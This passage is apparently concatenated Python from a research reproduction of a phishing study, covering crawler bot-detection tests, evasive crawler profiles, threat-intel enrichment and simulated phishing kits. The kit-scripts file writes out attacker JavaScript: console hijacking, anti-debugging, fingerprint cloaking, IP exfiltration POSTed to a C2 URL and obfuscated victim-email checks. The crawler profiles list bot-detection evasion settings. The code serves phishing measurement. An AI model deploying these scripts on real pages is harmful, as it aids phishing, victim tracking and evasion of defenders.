from repro.botdetect.botd import botd_script, read_botd_verdict
from repro.botdetect.turnstile import TurnstileProtection
from repro.browser.profile import BrowserProfile
from repro.crawlers.base import Crawler
from repro.crawlers.notabot import notabot_profile
from repro.crawlers.profiles import CRAWLER_PROFILES
from repro.web.http import HttpResponse
from repro.web.network import Network
from repro.web.site import Page, Website
from repro.web.tls import TLSCertificate

PROTECTED_MARKER = "PROTECTED-CONTENT-a7f3"

#: Order of rows in the paper's Table I.
TABLE1_CRAWLERS = (
    "kangooroo",
    "lacus",
    "puppeteer-stealth",
    "selenium-stealth",
    "undetected-chromedriver",
    "nodriver",
    "selenium-driverless",
    "notabot",
)


@dataclass(frozen=True)
class CrawlerAssessment:
    """One row of Table I."""

    crawler: str
    passes_botd: bool
    passes_turnstile: bool
    passes_anonwaf: bool

    @property
    def passes_all(self) -> bool:
        return self.passes_botd and self.passes_turnstile and self.passes_anonwaf


def _host(network: Network, domain: str, page: Page) -> Website:
    site = Website(domain, ip="203.0.113.10")
    site.set_default(page)
    network.host_website(site)
    network.issue_certificate(TLSCertificate(domain, "TestCA", float("-inf"), float("inf")))
    return site


def run_botd_test(profile: BrowserProfile, seed: int = 7) -> bool:
    """Load a BotD-instrumented page; pass = classified human."""
    network = Network()
    html = f"<html><head><title>BotD test</title></head><body><script>{botd_script()}</script></body></html>"
    _host(network, "botd-test.example", Page(html=html))
    crawler = Crawler(network, profile, rng=random.Random(seed))
    result = crawler.crawl_url("https://botd-test.example/")
    session = result.final_session
    if session is None:
        return False
    verdict = read_botd_verdict(session)
    return verdict is not None and not verdict.get("bot", True)


def run_turnstile_test(profile: BrowserProfile, seed: int = 7) -> bool:
    """Crawl a Turnstile-protected page; pass = protected content reached."""
    network = Network()
    content = Page(html=f"<html><body><p>{PROTECTED_MARKER}</p></body></html>")
    site = _host(network, "turnstile-test.example", content)
    TurnstileProtection(site)
    crawler = Crawler(network, profile, rng=random.Random(seed))
    result = crawler.crawl_url("https://turnstile-test.example/")
    final = result.final_response
    return final is not None and PROTECTED_MARKER in final.body


def run_anonwaf_test(profile: BrowserProfile, seed: int = 7) -> tuple[bool, AnonWafProtection]:
    """Crawl an AnonWAF-protected page; pass = the WAF log says human."""
    network = Network()
    content = Page(html=f"<html><body><p>{PROTECTED_MARKER}</p></body></html>")
    site = _host(network, "waf-test.example", content)
    waf = AnonWafProtection(site)
    crawler = Crawler(network, profile, rng=random.Random(seed))
    result = crawler.crawl_url("https://waf-test.example/")
    final = result.final_response
    reached = final is not None and PROTECTED_MARKER in final.body
    # Like the authors, confirm against the WAF's own verdict log.
    logged_human = any(v.classified_as == "human" for v in waf.verdict_log)
    return reached and logged_human, waf


def assess_crawler(name: str, seed: int = 7) -> CrawlerAssessment:
    """Run all three detector tests for one crawler."""
    if name == "notabot":
        profile = notabot_profile()
    else:
        profile = CRAWLER_PROFILES[name]
    waf_pass, _ = run_anonwaf_test(profile, seed)
    return CrawlerAssessment(
        crawler=name,
        passes_botd=run_botd_test(profile, seed),
        passes_turnstile=run_turnstile_test(profile, seed),
        passes_anonwaf=waf_pass,
    )


def assess_all_crawlers(seed: int = 7) -> list[CrawlerAssessment]:
    """The full Table I, in the paper's row order."""
    return [assess_crawler(name, seed) for name in TABLE1_CRAWLERS]
