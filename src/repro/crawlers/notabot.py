"""NotABot: CrawlerBox's evasive crawler (Section IV-C).

The paper's counter-measures, each one a profile field here:

1. Real Chrome in **non-headless** mode (no HeadlessChrome UA, real
   window metrics, plugins and ``window.chrome`` present).
2. A **physical machine** (Dell Precision 3571), so fine-grained timers
   show no VM quantisation.
3. A **4G modem with a commercial mobile data plan**, so the IP is
   neither datacenter/proxy/VPN nor on scanner blocklists.
4. The **AutomationControlled** flag disabled, so
   ``navigator.webdriver`` reads False.
5. Request interception **disabled** (handlers still log traffic), so
   the Cache-Control/Pragma quirk never appears.
6. **Fake mouse movements through the Chrome DevTools Protocol**, which
   the browser dispatches as trusted (``isTrusted === true``) events.

The knockout constructor powers the ablation bench: disabling any one
counter-measure re-exposes the corresponding detection signal.
"""

from __future__ import annotations

import random

from repro.browser.profile import BrowserProfile, CHROME_UA, HEADLESS_CHROME_UA
from repro.crawlers.base import Crawler
from repro.web.context import IP_DATACENTER, IP_MOBILE
from repro.web.network import Network


def notabot_profile() -> BrowserProfile:
    """The full NotABot configuration."""
    return BrowserProfile(
        name="notabot",
        user_agent=CHROME_UA,
        headless=False,
        webdriver_flag=False,  # AutomationControlled disabled
        cdp_runtime_leak=False,
        interception_cache_quirk=False,  # interception off, handlers only
        trusted_events=True,  # CDP-native input is trusted
        generates_mouse_movement=True,
        plugins_count=3,
        has_chrome_object=True,
        vm_timing_quantization=False,  # physical hardware
        ip="100.64.10.7",
        ip_type=IP_MOBILE,  # 4G modem, commercial data plan
        country="FR",
        asn="AS20810",
        network_name="SFR Mobile",
        tls_fingerprint="chrome",
        known_scanner_ip=False,
        timezone="Europe/Paris",
    )


#: Ablation knockouts: name -> the profile fields that undo one counter-measure.
NOTABOT_KNOCKOUTS: dict[str, dict] = {
    "full": {},
    "no-automation-flag-scrub": {"webdriver_flag": True},
    "headless-mode": {"headless": True, "user_agent": HEADLESS_CHROME_UA, "plugins_count": 0, "has_chrome_object": False},
    "interception-enabled": {"interception_cache_quirk": True},
    "no-fake-mouse": {"generates_mouse_movement": False},
    "virtual-machine": {"vm_timing_quantization": True},
    "datacenter-ip": {"ip": "52.20.0.5", "ip_type": IP_DATACENTER, "asn": "AS14618", "network_name": "Amazon AWS"},
}


def notabot_profile_without(countermeasure: str) -> BrowserProfile:
    """NotABot with one counter-measure knocked out (for ablation)."""
    try:
        overrides = NOTABOT_KNOCKOUTS[countermeasure]
    except KeyError as exc:
        raise KeyError(
            f"unknown knockout {countermeasure!r}; known: {sorted(NOTABOT_KNOCKOUTS)}"
        ) from exc
    return notabot_profile().derive(**overrides)


class NotABot(Crawler):
    """The evasive crawler used by the CrawlerBox pipeline."""

    def __init__(
        self,
        network: Network,
        rng: random.Random | None = None,
        retain_results: bool = True,
    ):
        super().__init__(network, notabot_profile(), rng=rng, retain_results=retain_results)
