"""Fingerprint profiles of the seven open-source crawlers of Table I.

All profiles share NotABot's testbed network identity (the paper tested
"within a consistent environment, including identical hardware and
network conditions"): a 4G mobile connection and a real Chrome TLS
stack.  They differ only in the automation surface each framework
leaves exposed:

- **Kangooroo** — Java-orchestrated headless Chrome with stock
  chromedriver: ``navigator.webdriver`` set, HeadlessChrome UA, no input.
- **Lacus** — Playwright capture system: clean UA/flags but CDP
  ``Runtime.enable`` artifacts and zero input behaviour.
- **Puppeteer + stealth plugin** — patches webdriver/UA/window metrics
  (passes BotD) but leaks CDP artifacts and, when request interception
  is used for logging, the Cache-Control/Pragma quirk.
- **Selenium + selenium-stealth** — the stealth patches are incomplete:
  ``navigator.webdriver`` remains observable.
- **undetected_chromedriver** — clean surface in non-headless mode and
  trusted CDP input, but still carries the Runtime.enable artifact
  (fails Turnstile, passes BotD and AnonWAF, matching the paper).
- **Nodriver / Selenium-Driverless** — chromedriver-free CDP stacks with
  no observable artifacts: pass everything, like NotABot.
"""

from __future__ import annotations

from repro.browser.profile import (
    BrowserProfile,
    CHROME_UA,
    HEADLESS_CHROME_UA,
)
from repro.web.context import IP_MOBILE

#: The shared testbed connection (a 4G modem with a commercial data plan).
_TESTBED = dict(
    ip="100.64.10.7",
    ip_type=IP_MOBILE,
    country="FR",
    asn="AS20810",
    network_name="SFR Mobile",
    tls_fingerprint="chrome",
    known_scanner_ip=False,
    timezone="Europe/Paris",
)


def _profile(name: str, **overrides) -> BrowserProfile:
    base = dict(
        name=name,
        user_agent=CHROME_UA,
        headless=False,
        webdriver_flag=False,
        cdp_runtime_leak=False,
        interception_cache_quirk=False,
        trusted_events=True,
        generates_mouse_movement=True,
        plugins_count=3,
        has_chrome_object=True,
        vm_timing_quantization=False,
    )
    base.update(_TESTBED)
    base.update(overrides)
    return BrowserProfile(**base)


KANGOOROO = _profile(
    "kangooroo",
    user_agent=HEADLESS_CHROME_UA,
    headless=True,
    webdriver_flag=True,
    cdp_runtime_leak=True,
    trusted_events=False,
    generates_mouse_movement=False,
    plugins_count=0,
    has_chrome_object=False,
)

LACUS = _profile(
    "lacus",
    cdp_runtime_leak=True,
    trusted_events=False,
    generates_mouse_movement=False,
)

PUPPETEER_STEALTH = _profile(
    "puppeteer-stealth",
    cdp_runtime_leak=True,
    interception_cache_quirk=True,
    trusted_events=False,
    generates_mouse_movement=False,
)

SELENIUM_STEALTH = _profile(
    "selenium-stealth",
    webdriver_flag=True,  # the incomplete patch the paper observed
    cdp_runtime_leak=True,
    trusted_events=False,
    generates_mouse_movement=False,
)

UNDETECTED_CHROMEDRIVER = _profile(
    "undetected-chromedriver",
    cdp_runtime_leak=True,  # Runtime.enable is still used by chromedriver
)

#: undetected_chromedriver in headless mode fails even BotD (the table's
#: footnote: it passes "only when used in non-headless mode").
UNDETECTED_CHROMEDRIVER_HEADLESS = _profile(
    "undetected-chromedriver-headless",
    user_agent=HEADLESS_CHROME_UA,
    headless=True,
    cdp_runtime_leak=True,
)

NODRIVER = _profile("nodriver")

SELENIUM_DRIVERLESS = _profile("selenium-driverless")


CRAWLER_PROFILES: dict[str, BrowserProfile] = {
    "kangooroo": KANGOOROO,
    "lacus": LACUS,
    "puppeteer-stealth": PUPPETEER_STEALTH,
    "selenium-stealth": SELENIUM_STEALTH,
    "undetected-chromedriver": UNDETECTED_CHROMEDRIVER,
    "nodriver": NODRIVER,
    "selenium-driverless": SELENIUM_DRIVERLESS,
}


def crawler_profile(name: str) -> BrowserProfile:
    """Profile by crawler name (including 'notabot')."""
    if name == "notabot":
        from repro.crawlers.notabot import notabot_profile

        return notabot_profile()
    try:
        return CRAWLER_PROFILES[name]
    except KeyError as exc:
        raise KeyError(f"unknown crawler {name!r}; known: {sorted(CRAWLER_PROFILES)} + ['notabot']") from exc
