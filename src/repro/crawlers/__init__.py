"""Security crawlers: NotABot and the seven open-source comparators.

Each crawler is a :class:`~repro.browser.browser.Browser` configured
with the fingerprint surface its real-world counterpart exposes —
``navigator.webdriver`` flags left unpatched, headless indicators, CDP
``Runtime.enable`` artifacts, the Puppeteer request-interception cache
quirk, synthetic-input trust, and the host/network environment (NotABot
runs non-headless on a physical machine behind a 4G modem).

:mod:`~repro.crawlers.assessment` runs the Table I experiment: every
crawler against BotD, Turnstile, and AnonWAF.
"""

from repro.crawlers.base import Crawler
from repro.crawlers.notabot import NotABot, notabot_profile
from repro.crawlers.profiles import CRAWLER_PROFILES, crawler_profile
from repro.crawlers.assessment import CrawlerAssessment, assess_all_crawlers

__all__ = [
    "Crawler",
    "NotABot",
    "notabot_profile",
    "CRAWLER_PROFILES",
    "crawler_profile",
    "CrawlerAssessment",
    "assess_all_crawlers",
]
