"""The enrichment join: WHOIS + CT + passive DNS + Shodan per domain."""

from __future__ import annotations

from dataclasses import dataclass

from repro.enrichment.shodan import ServiceBanner, ShodanDatabase
from repro.enrichment.umbrella import PassiveDnsDatabase, QueryVolumeStats
from repro.web.network import Network
from repro.web.urls import registered_domain
from repro.web.whois import WhoisRecord


@dataclass(frozen=True)
class EnrichmentRecord:
    """Everything CrawlerBox attaches to one crawled domain."""

    domain: str
    registrable_domain: str
    whois: WhoisRecord | None
    #: First TLS certificate issuance seen in CT logs (hours), or None.
    first_cert_issued_at: float | None
    dns_volumes: QueryVolumeStats | None
    shodan_banners: tuple[ServiceBanner, ...] = ()
    server_ip: str = ""


class Enricher:
    """Performs the enrichment lookups against the simulated sources."""

    def __init__(
        self,
        network: Network,
        passive_dns: PassiveDnsDatabase | None = None,
        shodan: ShodanDatabase | None = None,
    ):
        self.network = network
        self.passive_dns = passive_dns or PassiveDnsDatabase()
        self.shodan = shodan or ShodanDatabase()

    def enrich(self, domain: str, at_time: float, server_ip: str = "") -> EnrichmentRecord:
        """Enrich one domain as observed at ``at_time`` (hours).

        Raises the network fabric's connection errors when an active
        fault engine decides this lookup fails — real enrichment hits
        the same internet the crawler does, and a host taken down
        between crawl and enrichment takes its WHOIS/CT visibility with
        it.  The enrich stage guards per-domain, so one dead lookup
        never aborts the message.
        """
        faults = getattr(self.network, "faults", None)
        if faults is not None:
            faults.check_lookup(domain, at_time)
        registrable = registered_domain(domain)
        whois = self.network.whois.lookup(registrable)
        first_cert = self.network.ct_log.earliest_issuance(domain)
        if first_cert is None and registrable != domain:
            first_cert = self.network.ct_log.earliest_issuance(registrable)
        volumes = (
            self.passive_dns.volume_stats(domain, before_hour=at_time)
            if self.passive_dns.knows(domain)
            else None
        )
        banners = tuple(self.shodan.lookup(server_ip)) if server_ip else ()
        return EnrichmentRecord(
            domain=domain.lower(),
            registrable_domain=registrable,
            whois=whois,
            first_cert_issued_at=first_cert,
            dns_volumes=volumes,
            shodan_banners=banners,
            server_ip=server_ip,
        )
