"""Threat-intelligence enrichment (Section IV-C's data sources).

CrawlerBox enriches crawl logs with WHOIS information, Shodan service
banners, and Cisco Umbrella passive-DNS details.  The substrates:

- :mod:`~repro.enrichment.umbrella` — a passive-DNS database with
  per-domain daily query-volume series (seeded by the corpus generator,
  augmented by live resolver observations).
- :mod:`~repro.enrichment.shodan` — service banners per IP.
- :mod:`~repro.enrichment.enricher` — the join producing one
  :class:`~repro.enrichment.enricher.EnrichmentRecord` per domain.
"""

from repro.enrichment.umbrella import PassiveDnsDatabase, QueryVolumeStats
from repro.enrichment.shodan import ShodanDatabase, ServiceBanner
from repro.enrichment.enricher import Enricher, EnrichmentRecord

__all__ = [
    "PassiveDnsDatabase",
    "QueryVolumeStats",
    "ShodanDatabase",
    "ServiceBanner",
    "Enricher",
    "EnrichmentRecord",
]
