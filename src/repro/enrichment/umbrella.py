"""Cisco-Umbrella-style passive DNS: per-domain query-volume history.

Section V-A examines "the DNS query volumes for the malicious landing
domains during the last 30 days before the reception of their
associated message", contrasting single-message domains (median max
volume/day 18.5, median 30-day total 43.0) with multi-message domains
(50.5 / 100.5) — and one domain with 665 M queries that clearly was not
a targeted campaign.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass


@dataclass(frozen=True)
class QueryVolumeStats:
    """Volume summary over a trailing window."""

    domain: str
    window_days: int
    max_daily: int
    total: int


class PassiveDnsDatabase:
    """Daily query counts per domain, keyed by day index (hours // 24)."""

    def __init__(self):
        self._daily: dict[str, dict[int, int]] = defaultdict(dict)

    # ------------------------------------------------------------------
    def record_volume(self, domain: str, day: int, queries: int) -> None:
        """Seed (or add to) one day's query count."""
        bucket = self._daily[domain.lower()]
        bucket[day] = bucket.get(day, 0) + queries

    def ingest_resolver_log(self, query_log: list[tuple[float, str]]) -> None:
        """Fold live resolver observations (timestamp hours, domain) in."""
        for timestamp, domain in query_log:
            self.record_volume(domain, int(timestamp // 24), 1)

    # ------------------------------------------------------------------
    def volume_stats(self, domain: str, before_hour: float, window_days: int = 30) -> QueryVolumeStats:
        """Volumes for the ``window_days`` days before ``before_hour``."""
        end_day = int(before_hour // 24)
        start_day = end_day - window_days
        bucket = self._daily.get(domain.lower(), {})
        counts = [count for day, count in bucket.items() if start_day <= day < end_day]
        return QueryVolumeStats(
            domain=domain.lower(),
            window_days=window_days,
            max_daily=max(counts, default=0),
            total=sum(counts),
        )

    def knows(self, domain: str) -> bool:
        return domain.lower() in self._daily
