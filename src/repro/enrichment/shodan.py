"""Shodan-style service banners per IP address."""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass


@dataclass(frozen=True)
class ServiceBanner:
    ip: str
    port: int
    service: str
    banner: str


class ShodanDatabase:
    """Banners observed per IP, seeded alongside the hosting topology."""

    def __init__(self):
        self._banners: dict[str, list[ServiceBanner]] = defaultdict(list)

    def add_banner(self, banner: ServiceBanner) -> None:
        self._banners[banner.ip].append(banner)

    def add_https_host(self, ip: str, server_software: str = "nginx/1.24") -> None:
        """Convenience: the typical 443/80 pair a phishing host exposes."""
        self.add_banner(ServiceBanner(ip, 443, "https", f"Server: {server_software}"))
        self.add_banner(ServiceBanner(ip, 80, "http", f"Server: {server_software}"))

    def lookup(self, ip: str) -> list[ServiceBanner]:
        return list(self._banners.get(ip, ()))
