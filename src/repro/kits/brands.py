"""Impersonated organisations and their legitimate login portals.

The five studied companies (one multinational travel-technology group
plus four companies whose email security it oversees) get fictitious
but stable identities here, each with a distinctive login-page
:class:`~repro.web.site.VisualSpec`.  The commodity brands of Section
V-B (Microsoft Excel / OneDrive / Office 365 / generic Microsoft /
DocuSign / others) are listed with the paper's per-brand message
counts so the generator can reproduce the non-targeted mix.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.web.context import ClientContext
from repro.web.http import HttpRequest, HttpResponse
from repro.web.network import Network
from repro.web.site import Page, VisualSpec, Website
from repro.web.tls import TLSCertificate


@dataclass(frozen=True)
class Brand:
    """An organisation whose login page can be impersonated."""

    name: str
    login_domain: str
    spec: VisualSpec

    def clone_spec(self, hue_rotate_deg: float = 0.0, logo_url: str | None = None) -> VisualSpec:
        """The visual spec a phishing kit clones (optionally perturbed)."""
        spec = self.spec
        if hue_rotate_deg:
            spec = spec.with_hue_rotation(hue_rotate_deg)
        if logo_url:
            from dataclasses import replace

            spec = replace(spec, logo_url=logo_url)
        return spec


_LAYOUT_COUNTER = iter(range(1000))


def _company(name: str, domain: str, header: tuple[int, int, int], button: tuple[int, int, int], footer: str) -> Brand:
    # Every brand gets its own page geometry (see VisualSpec.layout_variant):
    # real login portals differ structurally, which is what lets the
    # grayscale fuzzy hashes separate brands while matching clones.
    variant = next(_LAYOUT_COUNTER) % 12
    return Brand(
        name=name,
        login_domain=domain,
        spec=VisualSpec(
            brand=name,
            title=f"Sign in to {name}",
            background=(244, 246, 248),
            header_color=header,
            button_color=button,
            button_text="SIGN IN",
            fields=("EMAIL", "PASSWORD"),
            footer=footer,
            layout_variant=variant,
            logo_text=name,
        ),
    )


#: The five studied companies (fictitious stand-ins).
COMPANY_BRANDS: tuple[Brand, ...] = (
    _company("Amatravel", "login.amatravel.example", (16, 46, 110), (0, 90, 200), "AMATRAVEL IT GROUP"),
    _company("SkyBooker", "sso.skybooker.example", (120, 30, 30), (190, 40, 40), "SKYBOOKER PLATFORMS"),
    _company("ContentHub", "portal.contenthub.example", (20, 100, 60), (30, 150, 90), "CONTENTHUB AGGREGATION"),
    _company("RevenuePro", "id.revenuepro.example", (90, 60, 10), (180, 120, 20), "REVENUEPRO SYSTEMS"),
    _company("PayRoute", "secure.payroute.example", (60, 20, 90), (120, 40, 180), "PAYROUTE PAYMENTS"),
)


#: Non-targeted commodity brands with Section V-B's message counts.
COMMODITY_BRANDS: tuple[tuple[Brand, int], ...] = (
    (_company("Microsoft Excel", "excel.office-docs.example", (16, 110, 60), (20, 140, 80), "MICROSOFT EXCEL ONLINE"), 20),
    (_company("OneDrive", "onedrive.files-share.example", (0, 90, 160), (0, 120, 215), "MICROSOFT ONEDRIVE"), 12),
    (_company("Office 365", "portal.office-365.example", (200, 60, 20), (235, 90, 30), "OFFICE 365"), 11),
    (_company("Microsoft", "account.ms-login.example", (40, 40, 40), (0, 120, 215), "MICROSOFT ACCOUNT"), 44),
    (_company("DocuSign", "sign.docu-envelope.example", (240, 180, 20), (50, 50, 60), "DOCUSIGN"), 1),
    (_company("WebMail", "mail.generic-webmail.example", (80, 80, 140), (100, 100, 180), "WEBMAIL SERVICES"), 42),
)


def host_legitimate_portals(network: Network) -> dict[str, Website]:
    """Host the real login portals (sources of truth for the classifier).

    Each portal serves its login page plus the logo/background assets
    that 29.8 % of spear-phishing pages hotlink (Section V-A).
    """
    hosted: dict[str, Website] = {}
    all_brands = list(COMPANY_BRANDS) + [brand for brand, _ in COMMODITY_BRANDS]
    for index, brand in enumerate(all_brands):
        site = Website(brand.login_domain, ip=f"198.18.{index}.10")
        site.set_default(Page(html=_portal_html(brand), visual=brand.spec))

        def _logo_handler(request: HttpRequest, context: ClientContext, _brand=brand) -> HttpResponse:
            response = HttpResponse(status=200, body=f"LOGO:{_brand.name}", content_type="image/png")
            response.logo_text = _brand.name  # type: ignore[attr-defined]
            return response

        site.add_handler("/assets/logo.png", _logo_handler)
        site.add_handler(
            "/assets/background.png",
            lambda request, context: HttpResponse(status=200, body="BG", content_type="image/png"),
        )
        network.host_website(site)
        network.issue_certificate(
            TLSCertificate(brand.login_domain, "DigiCert", float("-inf"), float("inf"))
        )
        hosted[brand.name] = site
    return hosted


def _portal_html(brand: Brand) -> str:
    return f"""<html>
<head><title>{brand.spec.title}</title></head>
<body>
<img src="/assets/logo.png"/>
<form action="/session" method="POST">
<input type="text" name="email"/>
<input type="password" name="password"/>
</form>
<p>{brand.spec.footer}</p>
</body></html>"""


def brand_by_name(name: str) -> Brand:
    for brand in COMPANY_BRANDS:
        if brand.name == name:
            return brand
    for brand, _ in COMMODITY_BRANDS:
        if brand.name == name:
            return brand
    raise KeyError(f"unknown brand {name!r}")
