"""Client-side evasion script builders (Section V-C's observations).

Each function returns PhishScript source a kit inlines into its pages.
The two victim-check variants are *fixed texts* (obfuscated once with
pinned seeds): the paper identified them precisely because the same
obfuscated script was shared across 38 and 57 distinct domains — script
identity across campaigns is the analytical signal, so the builders must
be deterministic.
"""

from __future__ import annotations

import random

from repro.js.obfuscate import base64_eval_wrap, split_string_obfuscate

# ----------------------------------------------------------------------
# Bot-behaviour evasions
# ----------------------------------------------------------------------
CONSOLE_HIJACK = """
(function(){
  var noop = function(){ return undefined; };
  console.log = noop;
  console.warn = noop;
  console.error = noop;
  console.info = noop;
  console.debug = noop;
})();
"""

DEBUGGER_TIMER = """
setInterval(function(){
  var before = Date.now();
  debugger;
  var after = Date.now();
  if (after - before > 100) {
    window.__debugger_detected = true;
  }
}, 1000);
"""

CONTEXT_MENU_BLOCK = """
document.addEventListener('contextmenu', function(e){ e.preventDefault(); return false; });
document.addEventListener('keydown', function(e){
  if (e.keyCode === 123 || (e.ctrlKey && e.shiftKey)) { e.preventDefault(); return false; }
});
"""


def console_hijack_script() -> str:
    """Redefine the console methods (seen in >=295 messages)."""
    return CONSOLE_HIJACK


def debugger_timer_script() -> str:
    """A 1-second debugger-statement timer (anti-debugging, >=10 messages)."""
    return DEBUGGER_TIMER


def context_menu_block_script() -> str:
    """Disable right-click and devtools key combinations (39 messages)."""
    return CONTEXT_MENU_BLOCK


# ----------------------------------------------------------------------
# Fingerprint cloaks
# ----------------------------------------------------------------------
def ua_timezone_language_cloak(reveal_js: str, decoy_url: str) -> str:
    """The UA + timezone + language association cloak (15 messages)."""
    return f"""
var agent = navigator.userAgent;
var zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
var lang = navigator.language || navigator.userLanguage;
var automated = navigator.webdriver === true || agent.indexOf('HeadlessChrome') !== -1;
if (!automated && zone !== '' && lang !== '') {{
{reveal_js}
}} else {{
  location.href = '{decoy_url}';
}}
"""


def fingerprint_library_gate(reveal_js: str, decoy_url: str) -> str:
    """BotD + FingerprintJS gating (the punctual July campaign, 5 messages)."""
    from repro.botdetect.botd import BOTD_SCRIPT

    fingerprintjs = """
(function(){
  var components = [
    navigator.userAgent,
    navigator.language,
    screen.width + 'x' + screen.height,
    screen.colorDepth,
    Intl.DateTimeFormat().resolvedOptions().timeZone,
    navigator.plugins.length
  ];
  var text = components.join('||');
  var hash = 0;
  for (var i = 0; i < text.length; i++) {
    hash = ((hash * 31) + text.charCodeAt(i)) % 4294967291;
  }
  window.__fpjs_visitor_id = hash.toString(16);
})();
"""
    return (
        BOTD_SCRIPT
        + fingerprintjs
        + f"""
if (!window.__botd_result.bot && window.__fpjs_visitor_id) {{
{reveal_js}
}} else {{
  location.href = '{decoy_url}';
}}
"""
    )


def hue_rotate_head_script(degrees: float = 4.0) -> str:
    """The base64-encoded <head> script applying hue-rotate (167 pages).

    "A JavaScript code (encoded in base64) is appended to each HTML
    document's <head> section [...] It applies a color rotation of 4
    degrees to the entire document using the CSS filter hue-rotate."
    """
    inner = f"document.documentElement.style.filter = 'hue-rotate({degrees}deg)';"
    return base64_eval_wrap(inner)


# ----------------------------------------------------------------------
# Server-side filtering support: IP exfiltration to C2
# ----------------------------------------------------------------------
def ip_exfiltration_script(c2_url: str, use_ipapi: bool = True) -> str:
    """Collect the client IP (httpbin) + enrichment (ipapi), POST to C2.

    httpbin.org was seen in 145 messages, ipapi.co in 83 (Section V-C).
    """
    enrich = ""
    if use_ipapi:
        enrich = """
  var enrichXhr = new XMLHttpRequest();
  enrichXhr.open('GET', 'https://ipapi.co/json/');
  enrichXhr.onload = function(){
    var info = JSON.parse(enrichXhr.responseText);
    data.country = info.country;
    data.asn = info.asn;
    data.org = info.org;
    send();
  };
  enrichXhr.send();
"""
    else:
        enrich = "  send();"
    return f"""
(function(){{
  var data = {{ ua: navigator.userAgent }};
  var send = function(){{
    var out = new XMLHttpRequest();
    out.open('POST', '{c2_url}');
    out.send(JSON.stringify(data));
  }};
  var ipXhr = new XMLHttpRequest();
  ipXhr.open('GET', 'https://httpbin.org/ip');
  ipXhr.onload = function(){{
    var body = JSON.parse(ipXhr.responseText);
    data.ip = body.origin;
{enrich}
  }};
  ipXhr.send();
}})();
"""


# ----------------------------------------------------------------------
# Victim-tracking scripts (the two shared obfuscated variants)
# ----------------------------------------------------------------------
_VICTIM_CHECK_TEMPLATE = """
(function(){
  var sleep = function(ms){ var begin = Date.now(); while (Date.now() - begin < ms) {} };
  var noop = function(){};
  console.log = noop; console.warn = noop; console.error = noop;
  var fragment = location.href.split('%(separator)s');
  var email = fragment.length > 1 ? atob(fragment[1]) : '';
  var pattern = new RegExp('^[A-Za-z0-9._%%+-]+@[A-Za-z0-9.-]+$');
  if (pattern.test(email)) {
    var xhr = new XMLHttpRequest();
    xhr.open('POST', '/check');
    xhr.onload = function(){
      var verdict = JSON.parse(xhr.responseText);
      if (verdict.known) {
        document.getElementById('content').style.display = 'block';
        window.__victim_email = email;
      } else {
        location.href = '%(decoy)s';
      }
    };
    xhr.send(JSON.stringify({email: email}));
  } else {
    location.href = '%(decoy)s';
  }
})();
"""


def victim_check_script(variant: str, decoy_url: str = "https://decoy-landing.example/") -> str:
    """One of the two shared obfuscated victim-tracking scripts.

    Variant "a" (38 domains / 151 messages) and variant "b" (57 domains /
    143 messages) differ in their URL-fragment separator and obfuscation,
    but both sleep, hijack the console, decode the victim email from the
    tokenized URL, validate it, and confirm it against the attacker's
    database with a synchronous AJAX call before revealing the page.
    """
    if variant not in ("a", "b"):
        raise ValueError("variant must be 'a' or 'b'")
    separator = "#e=" if variant == "a" else "#id."
    source = _VICTIM_CHECK_TEMPLATE % {"separator": separator, "decoy": decoy_url}
    # Deterministic obfuscation: identical text across every deployment,
    # so cross-domain script clustering can find it.
    rng = random.Random(101 if variant == "a" else 202)
    obfuscated = split_string_obfuscate(source, separator, rng)
    return base64_eval_wrap(obfuscated)


# ----------------------------------------------------------------------
# Reveal helpers
# ----------------------------------------------------------------------
REVEAL_CONTENT = "document.getElementById('content').style.display = 'block';"


def simple_reveal_script() -> str:
    """Unconditionally reveal the hidden login form after load."""
    return REVEAL_CONTENT
