"""Phishing kits: the attacker-side content generators.

Merlo et al. (cited in Section VI) found 90 % of phishing kits share
90 %+ of their code; this subpackage is the corpus's "kit ecosystem":
parameterised builders that deploy landing sites onto the network
fabric and compose the luring emails, with every evasion feature the
paper measured available as a composable option.

- :mod:`~repro.kits.scripts` — client-side evasion snippets (console
  hijack, debugger timers, fingerprint cloaks, victim-check scripts,
  hue-rotation, IP exfiltration via httpbin/ipapi).
- :mod:`~repro.kits.brands` — the impersonated organisations: the five
  studied companies plus the commodity brands of Section V-B.
- :mod:`~repro.kits.credential` — credential-harvesting kits (spear and
  non-targeted), with Turnstile/reCAPTCHA/OTP/math-challenge gating.
- :mod:`~repro.kits.fraud` — URL-less first-contact fraud (BEC).
- :mod:`~repro.kits.attachment` — HTML-attachment and ZIP/HTA kits.
"""

from repro.kits.brands import Brand, COMPANY_BRANDS, COMMODITY_BRANDS
from repro.kits.credential import CredentialKit, CredentialKitOptions, DeployedSite
from repro.kits.fraud import build_fraud_message
from repro.kits.attachment import build_html_attachment_message, build_zip_hta_message

__all__ = [
    "Brand",
    "COMPANY_BRANDS",
    "COMMODITY_BRANDS",
    "CredentialKit",
    "CredentialKitOptions",
    "DeployedSite",
    "build_fraud_message",
    "build_html_attachment_message",
    "build_zip_hta_message",
]
