"""Interaction-gated destinations (the 235-message bucket of Section V).

"235 messages (4.5%) lead to pages requiring specific user interaction
(e.g., a Dropbox document, a Google Drive page, or a website requiring
solving a traditional CAPTCHA system involving image-based puzzles)."
NotABot deliberately cannot solve classic image CAPTCHAs (Section VII),
so these pages terminate the crawl with an interaction classification.
"""

from __future__ import annotations

import random

from repro.mail.message import EmailMessage, MessagePart
from repro.web.network import Network
from repro.web.site import Page, VisualSpec, Website
from repro.web.tls import TLSCertificate

INTERACTION_KINDS = ("dropbox-document", "gdrive-page", "classic-captcha")

_PAGE_MARKUP = {
    "dropbox-document": """<html>
<head><title>Dropbox - Shared document</title></head>
<body>
<h1>Dropbox</h1>
<p>Someone shared "Q3_payment_schedule.xlsx" with you.</p>
<p>To view this document, sign in with your work account or request access.</p>
<form action="/request-access" method="POST"><input type="text" name="email"/></form>
</body></html>""",
    "gdrive-page": """<html>
<head><title>Google Drive - You need access</title></head>
<body>
<h1>Google Drive</h1>
<p>You need access. Ask for access, or switch to an account with access.</p>
<form action="/request" method="POST"><input type="text" name="message"/></form>
</body></html>""",
    "classic-captcha": """<html>
<head><title>Verify you are human</title></head>
<body>
<h1>Security check</h1>
<p>Select all images containing traffic lights to continue.</p>
<div id="captcha-grid">[image puzzle grid]</div>
<form action="/verify" method="POST"><input type="hidden" name="captcha-token"/></form>
</body></html>""",
}

_VISUALS = {
